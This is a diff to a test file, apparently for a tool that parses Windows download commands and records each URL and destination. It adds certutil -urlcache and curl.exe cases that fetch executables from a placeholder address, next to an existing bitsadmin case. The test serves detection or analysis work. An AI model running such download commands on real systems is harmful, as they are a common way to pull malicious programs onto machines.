@@ -14,6 +14,12 @@ describe('what a Windows fetcher writes', () => {
       { url: 'https://203.0.113.9/a', dest: 'a.bin' },
     ],
     ['certutil -hashfile t.exe SHA256', undefined],
+    // no destination named: saved under the URL's own name
+    [
+      'certutil -urlcache -split -f https://203.0.113.9/tools/t.exe',
+      { url: 'https://203.0.113.9/tools/t.exe', dest: 't.exe' },
+    ],
+    ['curl.exe -O https://203.0.113.9/u.exe?x=1', { url: 'https://203.0.113.9/u.exe?x=1', dest: 'u.exe' }],
     [
       'bitsadmin /transfer j /priority foreground https://203.0.113.9/u.exe C:\\T\\u.exe',
       { url: 'https://203.0.113.9/u.exe', dest: 'c:tu.exe' },
